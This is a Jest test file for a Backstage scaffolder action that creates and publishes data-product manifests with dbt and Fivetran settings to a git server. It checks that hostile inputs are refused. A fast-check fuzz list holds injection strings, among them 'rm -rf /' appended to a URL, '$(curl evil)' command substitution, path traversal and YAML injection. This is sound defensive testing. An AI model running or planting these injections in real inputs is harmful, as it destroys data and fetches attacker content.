/*
 * The Create page's capability pages through meshifi:dataproduct:create and
 * meshifi:gitops:publish, as the data-product template runs them, on a real
 * git server: the answers become spec.capabilities in the published file,
 * and answers the plan refuses publish nothing.
 */
import {
  createMockDirectory,
  mockServices,
} from '@backstage/backend-test-utils';
import { ConfigReader, JsonObject } from '@backstage/config';
import { InputError } from '@backstage/errors';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import {
  composeWithCapabilities,
  DataProduct,
  readGitopsFile,
} from '@meshifi/common';
import { GitOpsRepository } from '@meshifi/node';
import { execFileSync } from 'child_process';
import fc from 'fast-check';
import { promises as fs } from 'fs';
import path from 'path';
import { parse } from 'yaml';
import { exampleOrg } from '../__testUtils__/exampleTenancy';
import { useGitOpsServer } from '../__testUtils__/gitOpsServer';
import { createDataProductAction } from './createDataProduct';
import { publishToGitOpsAction } from './publishToGitOps';

jest.setTimeout(120_000);

const STARTERS = 'https://git.example.com/acme/dbt-starters.git';
const PRODUCT_FILE = 'domains/sales/products/customer-orders.yaml';

const configWith = (capabilities?: JsonObject) =>
  new ConfigReader({
    meshifi: {
      platform: {
        project: 'meshifi-demo',
        location: 'EU',
        ...(capabilities ? { capabilities } : {}),
      },
    },
  });

const tenancy = () => ({
  catalog: catalogServiceMock({ entities: exampleOrg }),
  permissions: mockServices.permissions(),
  settings: { allowedProjects: [], allowedEmailDomains: [] },
});

const existingProject = {
  enabled: true,
  project: 'existing',
  repository: 'https://github.com/acme/sales-dbt.git',
  path: 'orders',
  schedule: '0 6 * * 1-5',
  command: 'dbt build',
};

describe('meshifi:dataproduct:create with capability pages, then publish', () => {
  const dir = createMockDirectory();
  const gitops = useGitOpsServer(dir);
  let runs = 0;

  const repository = () =>
    new GitOpsRepository({
      remote: gitops.server.url('gitops.git'),
      branch: 'main',
      mirrorDir: path.join(dir.path, `mirror-${++runs}`),
      author: { name: 'meshifi', email: 'meshifi@localhost' },
    });

  /** The files of the remote's main branch: none before the first push. */
  const published = (): string[] => {
    try {
      return execFileSync('git', ['ls-tree', '-r', '--name-only', 'main'], {
        cwd: gitops.remote,
        encoding: 'utf8',
      })
        .split('\n')
        .filter(Boolean);
    } catch {
      return [];
    }
  };

  /** The template's two steps: create, then publish what it wrote. */
  async function createAndPublish(
    capabilities: Record<string, unknown>,
    config = configWith({ dbt: { starterRepository: STARTERS } }),
  ) {
    const workspacePath = path.join(dir.path, `ws-${++runs}`);
    const create = createMockActionContext({
      workspacePath,
      input: {
        name: 'customer-orders',
        domain: 'domain:default/sales',
        owners: ['group:default/sales-analytics'],
        version: '0.1.0',
        capabilities,
      } as any,
    });
    await createDataProductAction({
      ...tenancy(),
      config,
      repository: repository(),
    }).handler(create);
    const filePath = (create.output as jest.Mock).mock.calls.find(
      ([name]) => name === 'filePath',
    )![1];
    await publishToGitOpsAction({
      ...tenancy(),
      repository: repository(),
    }).handler(
      createMockActionContext({
        workspacePath,
        input: { filePath, message: 'Add the data product customer-orders' },
      }),
    );
    const output = (name: string) =>
      (create.output as jest.Mock).mock.calls.find(([n]) => n === name)?.[1];
    const file = execFileSync('git', ['show', `main:${filePath}`], {
      cwd: gitops.remote,
      encoding: 'utf8',
    });
    return { output, file, product: parse(file) as DataProduct, workspacePath };
  }

  it('publishes spec.capabilities.dbt from the dbt page, and lists what dbt gets', async () => {
    const { product, file, output } = await createAndPublish({
      dbt: existingProject,
    });
    expect(product.spec.capabilities).toEqual({
      dbt: {
        repository: 'https://github.com/acme/sales-dbt.git',
        path: 'orders',
        schedule: '0 6 * * 1-5',
        command: 'dbt build',
      },
    });
    // What every reader of the repository accepts.
    expect(readGitopsFile(PRODUCT_FILE, file).ok).toBe(true);
    // The summaries are those of the Composition's pipeline, dbt's last.
    const pipeline = composeWithCapabilities(product, {
      project: 'acme-sales-data',
      location: 'EU',
      capabilities: { dbt: { starterRepository: STARTERS } },
    });
    expect(output('plannedResources')).toEqual(pipeline.map(r => r.summary));
    expect(pipeline.filter(r => r.key.startsWith('dbt-'))).not.toEqual([]);
  });

  it("puts a starter project in the platform's starter repository, in the domain's folder", async () => {
    const { product } = await createAndPublish({
      dbt: { enabled: true, project: 'starter', schedule: '0 6 * * *' },
      fivetran: { enabled: false },
    });
    expect(product.spec.capabilities).toEqual({
      dbt: expect.objectContaining({
        repository: STARTERS,
        path: 'sales/customer-orders',
        schedule: '0 6 * * *',
      }),
    });
  });

  it('publishes no capability for pages left off', async () => {
    const { product } = await createAndPublish({
      dbt: { enabled: false },
      fivetran: { enabled: false },
    });
    expect(product.spec.capabilities).toBeUndefined();
  });

  it('refuses a starter project when the platform has no starter repository, saying what to do, and publishes nothing', async () => {
    const attempt = createAndPublish(
      { dbt: { enabled: true, project: 'starter', schedule: '0 6 * * *' } },
      configWith(),
    );
    await expect(attempt).rejects.toThrow(InputError);
    await expect(attempt).rejects.toThrow(
      'This platform has no place for starter dbt projects yet: choose "I already have one" and give its repository, or ask the platform team to set starterRepository.',
    );
    expect(published()).not.toContain(PRODUCT_FILE);
  });

  it.each([
    [
      'a schedule at an hour that does not exist',
      { dbt: { ...existingProject, schedule: '0 25 * * *' } },
    ],
    [
      'a repository with a password in it',
      {
        dbt: {
          ...existingProject,
          repository: 'https://ana:hunter2@github.com/acme/sales-dbt.git',
        },
      },
    ],
    ['a capability meshifi does not have', { airflow: { enabled: true } }],
  ])('refuses %s, and publishes nothing', async (_what, capabilities) => {
    await expect(createAndPublish(capabilities)).rejects.toThrow(InputError);
    expect(published()).not.toContain(PRODUCT_FILE);
  });
});

/** Every file under a folder, relative to it. */
async function filesUnder(root: string, dir = root): Promise<string[]> {
  const entries = await fs
    .readdir(dir, { withFileTypes: true })
    .catch(() => []);
  const nested = await Promise.all(
    entries.map(entry => {
      const full = path.join(dir, entry.name);
      return entry.isDirectory()
        ? filesUnder(root, full)
        : [path.relative(root, full)];
    }),
  );
  return nested.flat();
}

/**
 * What is wrong with one run: a refusal must be an InputError with a
 * message and leave nothing behind; a success must write the one product
 * file, which every reader of the GitOps repository accepts.
 */
async function problemsOf(
  outcome: Error | undefined,
  files: string[],
  root: string,
): Promise<string[]> {
  if (outcome) {
    return [
      ...(outcome instanceof InputError
        ? []
        : [`a crash: ${outcome.name}: ${outcome.message}`]),
      ...(outcome.message.length > 10 ? [] : ['a refusal without a message']),
      ...(files.length === 0 ? [] : [`files left behind: ${files}`]),
    ];
  }
  if (files.join() !== PRODUCT_FILE) {
    return [`written: ${files.join(', ')}`];
  }
  const read = readGitopsFile(
    PRODUCT_FILE,
    await fs.readFile(path.join(root, PRODUCT_FILE), 'utf8'),
  );
  return read.ok ? [] : [`an invalid manifest written: ${read.message}`];
}

describe('meshifi:dataproduct:create with hostile capability answers', () => {
  const workspace = createMockDirectory();
  const action = createDataProductAction({
    ...tenancy(),
    config: configWith({ dbt: { starterRepository: STARTERS } }),
  });

  const hostileText = fc.oneof(
    fc.string({ maxLength: 40 }),
    fc.constantFrom(
      'https://github.com/acme/dbt.git',
      'https://x@y.example/z.git; rm -rf /',
      '../../etc',
      'dbt run --vars "$(curl evil)"',
      '* * * * *',
      '0 6 * * *\n- kind: Secret',
      'x'.repeat(3000),
    ),
  );
  const dbtAnswers = fc.record(
    {
      enabled: fc.oneof(fc.constant(true), fc.anything()),
      project: fc.oneof(fc.constantFrom('starter', 'existing'), fc.anything()),
      repository: hostileText,
      path: hostileText,
      schedule: fc.oneof(hostileText, fc.anything()),
      command: hostileText,
      revision: hostileText,
    },
    { requiredKeys: ['enabled'] },
  );
  const fivetranAnswers = fc.record(
    {
      enabled: fc.oneof(fc.constant(true), fc.anything()),
      connections: fc.oneof(
        fc.array(
          fc.record({
            name: hostileText,
            connector: hostileText,
            syncFrequency: fc.oneof(fc.integer(), hostileText),
            credentialsSecret: hostileText,
          }),
          { maxLength: 3 },
        ),
        fc.anything(),
      ),
    },
    { requiredKeys: ['enabled'] },
  );
  const capabilities = fc.oneof(
    fc.record(
      { dbt: fc.oneof(dbtAnswers, fc.anything()), fivetran: fivetranAnswers },
      { requiredKeys: [] },
    ),
    fc.dictionary(fc.string({ maxLength: 10 }), fc.anything(), {
      maxKeys: 3,
    }),
  );

  it('refuses what it cannot use with an InputError, writing nothing, and writes only valid manifests (fast-check)', async () => {
    let written = 0;
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(capabilities, async answers => {
        workspace.clear();
        const ctx = createMockActionContext({
          workspacePath: workspace.path,
          input: {
            name: 'customer-orders',
            domain: 'domain:default/sales',
            owners: ['group:default/sales-analytics'],
            version: '0.1.0',
            capabilities: answers,
          } as any,
        });
        const outcome = await action.handler(ctx).then(
          () => undefined,
          (error: Error) => error,
        );
        const files = await filesUnder(workspace.path);
        if (outcome) {
          refused++;
        } else {
          written++;
        }
        expect(await problemsOf(outcome, files, workspace.path)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
    // eslint-disable-next-line no-console
    console.log(
      `meshifi:dataproduct:create: 1000 hostile capability answers, ${written} valid manifests written, ${refused} refused with an InputError, 0 crashes`,
    );
    expect(written).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);
  });
});
